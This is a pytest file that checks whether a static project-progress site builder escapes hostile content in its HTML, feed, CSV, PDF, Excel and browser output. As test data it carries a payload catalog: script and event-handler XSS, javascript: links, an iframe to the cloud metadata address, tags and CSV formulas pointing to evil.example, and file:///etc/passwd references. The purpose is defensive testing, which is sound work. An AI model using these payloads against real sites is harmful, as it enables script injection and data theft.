"""Nothing let in, part 2: hostile text written by a department goes through every output safely.

One register carries a different payload, each with its own marker, in every text field and in
Markdown; it is built once through every output. Each case then checks its marker everywhere:
in HTML it may only ever be text (never an element, an event handler or a URL), in the feed
only text, in the CSV never a formula, in Jinja never evaluated; and in a real Chromium no page
runs any of it.
"""

from __future__ import annotations

import csv
import io
import json
import re
import subprocess
import xml.etree.ElementTree as ET
from html.parser import HTMLParser
from pathlib import Path

import pytest

from board.build import BuildResult, build
from tests.conftest import BOARD_YAML, write_files

PAYLOADS = {
    "script": '<script>alert("pwn-{n}")</script>',
    "img-onerror": '<img src=x onerror=alert("pwn-{n}")>',
    "attribute-break-double": '" onmouseover="alert(\'pwn-{n}\')" x="',
    "attribute-break-single": "' onfocus='alert(1)' data-pwn-{n}='",
    "script-close": '</script><script>alert("pwn-{n}")</script>',
    "svg-onload": '<svg onload=alert("pwn-{n}")>',
    "iframe": '<iframe src="http://169.254.169.254/pwn-{n}"></iframe>',
    "style-import": "<style>@import url(http://evil.example/pwn-{n}.css)</style>",
    "jinja": "{{{{ 7*7 }}}}{{% raw %}}pwn-{n}",
    "formula": '=HYPERLINK("http://evil.example/pwn-{n}","点击")',
    "javascript-url": 'javascript:alert("pwn-{n}")',
}
PROJECT_FIELDS = ("name", "leader", "unit", "owner", "location", "category")
REPORT_FIELDS = ("progress", "problems", "measures", "reason")
MILESTONE_FIELDS = ("task", "owner")
MARKDOWN = {
    "md-raw-script": "正文<script>alert('pwn-{n}')</script>",
    "md-raw-iframe": '<iframe src="https://evil.example/pwn-{n}"></iframe>正文',
    "md-raw-style": "<style>body{{background:url(https://evil.example/pwn-{n})}}</style>正文",
    "md-img-onerror": '<img alt="图" onerror="alert(\'pwn-{n}\')">正文',
    "md-javascript-link": "[点击](javascript:alert('pwn-{n}'))",
    "md-data-link": "[点击](data:text/html;base64,PHNjcmlwdD5wd24tMTwvc2NyaXB0Pg==#pwn-{n})",
    "md-vbscript-link": "[点击](vbscript:msgbox('pwn-{n}'))",
    "md-link-attachment": '<link rel="attachment" href="file:///etc/passwd#pwn-{n}">正文',
    "md-object": '<object data="file:///etc/passwd#pwn-{n}"></object>正文',
    "md-form": '<form action="https://evil.example/pwn-{n}"><input name=x></form>正文',
    "md-meta-refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/pwn-{n}">正文',
    "md-base": '<base href="https://evil.example/pwn-{n}/">正文',
}


def _quote(text: str) -> str:
    return '"' + text.replace("\\", "\\\\").replace('"', '\\"') + '"'


def _cases() -> dict[str, tuple[str, str, str]]:
    """case id → (where, field, payload text with its marker)."""
    cases: dict[str, tuple[str, str, str]] = {}
    n = 0
    places = (
        [("project", f) for f in PROJECT_FIELDS]
        + [("report", f) for f in REPORT_FIELDS]
        + [("milestone", f) for f in MILESTONE_FIELDS]
    )
    for (where, field), (kind, template) in zip(
        places * 3, list(PAYLOADS.items()) * 3, strict=False
    ):
        n += 1
        cases[f"{where}.{field}:{kind}"] = (where, field, template.format(n=n))
    for kind, template in MARKDOWN.items():
        n += 1
        cases[f"summary:{kind}"] = ("summary", "summary", template.format(n=n))
    return cases


CASES = _cases()


def _marker(payload: str) -> str:
    return re.search(r"pwn-\d+", payload).group()


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> BuildResult:
    root = tmp_path_factory.mktemp("hostile") / "content"
    files = {"board.yaml": BOARD_YAML + "site_url: https://www.example.gov.cn/zdxm/\n"}
    report = ["month: 2020-09", "projects:"]
    for i, (case, (where, field, payload)) in enumerate(CASES.items()):
        pid = f"p{i:02d}"
        project = {
            "id": pid,
            "name": f"项目{i}",
            "leader": f"领导{i // 2}",
            "unit": "住建局",
            "start": "2020-01-01",
            "deadline": "2020-12-31",
        }
        if where == "project":
            project[field] = _quote(payload)
        lines = [f"{k}: {v}" for k, v in project.items()]
        if where == "summary":
            lines.append(f"summary: {_quote(payload)}")
        task = {"task": "审批", "owner": "发改局"}
        if where == "milestone":
            task[field] = _quote(payload)
        lines += [
            "milestones:",
            f"  - task: {task['task']}",
            f"    owner: {task['owner']}",
            "    due: 2020-03-01",
        ]
        files[f"projects/{pid}.yaml"] = "\n".join(lines) + "\n"
        entry = {
            "percent": "60",
            "progress": "施工中",
            "reason": "征地",
            "catch_up_by": "2020-11-30",
        }
        if where == "report":
            entry[field] = _quote(payload)
        report.append(f"  {pid}:  # {case}")
        report += [f"    {k}: {v}" for k, v in entry.items()]
    files["reports/2020-09.yaml"] = "\n".join(report) + "\n"
    write_files(root, files)
    return build(root, root.parent / "output")


class Elements(HTMLParser):
    """Every element, attribute and script/style text of a page."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.raw: list[tuple[str, str]] = []  # (script|style, text)
        self.text: list[str] = []
        self._open: str | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))
        self._open = tag if tag in ("script", "style") else None
        if tag == "script" and ("type", "application/ld+json") in attrs:
            self._open = "data"  # a JSON-LD block: data the browser never runs

    def handle_endtag(self, tag: str) -> None:
        self._open = None

    def handle_data(self, data: str) -> None:
        if self._open:
            self.raw.append((self._open, data))
        else:
            self.text.append(data)


def html_pages(result: BuildResult) -> dict[str, Elements]:
    pages = {}
    for name, data in result.files.items():
        if name.endswith(".html"):
            parser = Elements()
            parser.feed(data.decode("utf-8"))
            pages[name] = parser
    return pages


@pytest.fixture(scope="module")
def pages(hostile: BuildResult) -> dict[str, Elements]:
    return html_pages(hostile)


def test_the_catalog_has_at_least_40_cases() -> None:
    assert len(CASES) >= 40


@pytest.mark.slow
@pytest.mark.parametrize("case", list(CASES))
def test_payload_is_never_live_in_any_page(
    hostile: BuildResult, pages: dict[str, Elements], case: str
) -> None:
    where, _field, payload = CASES[case]
    marker = _marker(payload)
    shown_somewhere = False
    for name, page in pages.items():
        for tag, attrs in page.tags:
            assert tag not in ("iframe", "object", "embed", "form", "base", "meta", "link") or all(
                marker not in (v or "") for _, v in attrs
            ), f"{name}: live <{tag}> from {case}"
            for attr, value in attrs:
                assert marker not in attr, f"{name}: injected attribute {attr} from {case}"
                if attr.startswith("on"):
                    assert marker not in (value or ""), f"{name}: event handler from {case}"
                if (
                    attr in ("href", "src", "action", "data", "xlink:href")
                    and value
                    and marker in value
                ):
                    raise AssertionError(f"{name}: {attr}={value} from {case}")
        for kind, text in page.raw:
            if kind == "data":  # JSON-LD: nothing in it can close the element; it parses back
                assert "<" not in text and "&" not in text, f"{name}: JSON-LD carries {case}"
                json.loads(text)
                continue
            # our own inline scripts may carry the data as JSON: only as an escaped string
            if marker in text:
                assert (
                    kind == "script"
                    and "</script" not in text.lower()
                    and "alert(" not in text.split(marker)[0][-30:]
                ), f"{name}: {kind} text carries {case}"
        if any(marker in t for t in page.text):
            shown_somewhere = True
    if where != "summary":
        assert shown_somewhere, f"{case}: the text should be shown (escaped), not dropped"


@pytest.mark.parametrize("case", [c for c in CASES if c.endswith(":jinja")])
def test_template_syntax_in_content_is_text_not_code(
    hostile: BuildResult, pages: dict[str, Elements], case: str
) -> None:
    marker = _marker(CASES[case][2])
    texts = [t for page in pages.values() for t in page.text if marker in t]
    assert texts and all("{{ 7*7 }}" in t and "49" not in t for t in texts)


@pytest.mark.parametrize("case", [c for c in CASES if c.endswith(":formula")])
def test_csv_never_carries_a_formula(hostile: BuildResult, case: str) -> None:
    payload = CASES[case][2]
    text = hostile.files["site/data/projects.csv"].decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert not any(
        cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not _number(cell) for cell in cells
    )
    assert "'" + payload in cells


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_the_feed_carries_payloads_only_as_text(hostile: BuildResult) -> None:
    root = ET.fromstring(hostile.files["site/feed.xml"])
    for element in root.iter():
        for name, value in element.attrib.items():
            assert "pwn-" not in name
            assert not value.lower().startswith("javascript:")
    assert not re.search(rb"<script", hostile.files["site/feed.xml"], re.IGNORECASE)


@pytest.mark.slow
def test_pdf_text_shows_payloads_and_embeds_nothing_foreign(hostile: BuildResult) -> None:
    pdfs = [n for n in hostile.files if n.endswith(".pdf")]
    assert pdfs
    for name in pdfs:
        data = hostile.files[name]
        assert b"/EmbeddedFile" not in data, f"{name} has an attachment"
        assert b"/JavaScript" not in data and b"/JS " not in data, f"{name} has script"
        assert b"/Launch" not in data, f"{name} launches programs"
    text = subprocess.run(
        [
            "pdftotext",
            "-layout",
            str(hostile.out_dir / next(n for n in pdfs if "sheets" in n)),
            "-",
        ],
        capture_output=True,
        text=True,
        check=True,
    ).stdout
    assert "<script>alert(" in text.replace("\n", "")  # shown as text on the sheet


@pytest.mark.browser
@pytest.mark.slow
def test_no_page_runs_any_payload_in_chromium(hostile: BuildResult, browser) -> None:
    out = hostile.out_dir
    targets = [
        "screen/index.html",
        "site/index.html",
        "site/embed.html",
        *sorted(n for n in hostile.files if n.startswith("site/projects/"))[:6],
    ]
    context = browser.new_context()
    dialogs: list[str] = []
    outside: list[str] = []
    try:
        for target in targets:
            page = context.new_page()
            page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
            page.on(
                "request",
                lambda r: (
                    outside.append(r.url) if not r.url.startswith(("file://", "data:")) else None
                ),
            )
            page.goto(Path(out / target).as_uri())
            page.wait_for_timeout(200)
            page.mouse.move(200, 200)
            page.keyboard.press("Tab")
            page.close()
    finally:
        context.close()
    assert dialogs == []
    assert outside == []


def test_register_markdown_cannot_reach_files_outside(tmp_path: Path) -> None:
    canary = tmp_path / "canary.txt"
    canary.write_text("CANARY-7f3a", encoding="utf-8")
    root = tmp_path / "content"
    summary = _quote(
        f'<link rel="attachment" href="file://{canary}"> [a](file://{canary}) [b](../../canary.txt)'
    )
    write_files(
        root,
        {
            "board.yaml": BOARD_YAML,
            "projects/a.yaml": "id: a\nname: 项目\nleader: 王\nunit: 局\nstart: 2020-01-01\ndeadline: 2020-12-31\n"
            f"summary: {summary}\n",
            "reports/2020-09.yaml": "month: 2020-09\nprojects:\n  a: {percent: 75, progress: 施工}\n",
        },
    )
    result = build(root, tmp_path / "out")
    for name, data in result.files.items():
        assert b"CANARY-7f3a" not in data, name
        assert str(canary).encode() not in data, name


def test_exported_workbooks_never_carry_a_formula(tmp_path: Path) -> None:
    import openpyxl

    from board.cli import main

    root = tmp_path / "content"
    write_files(
        root,
        {
            "board.yaml": BOARD_YAML,
            "projects/a.yaml": 'id: a\nname: \'=HYPERLINK("http://evil.example","点击")\'\nleader: "+王"\n'
            'unit: "@局"\nstart: 2020-01-01\ndeadline: 2020-12-31\n',
            "reports/2020-09.yaml": 'month: 2020-09\nprojects:\n  a: {percent: 75, progress: "=1+1"}\n',
        },
    )
    for command in (
        ["export", str(root), "--out", str(tmp_path / "e.xlsx")],
        ["template", "--from", str(root), "--out", str(tmp_path / "t.xlsx")],
    ):
        assert main(command) == 0
    for name in ("e.xlsx", "t.xlsx"):
        workbook = openpyxl.load_workbook(tmp_path / name)
        cells = [c for ws in workbook for row in ws.iter_rows() for c in row]
        assert not [c.coordinate for c in cells if c.data_type == "f"], name
        assert any(c.value == '=HYPERLINK("http://evil.example","点击")' for c in cells), name
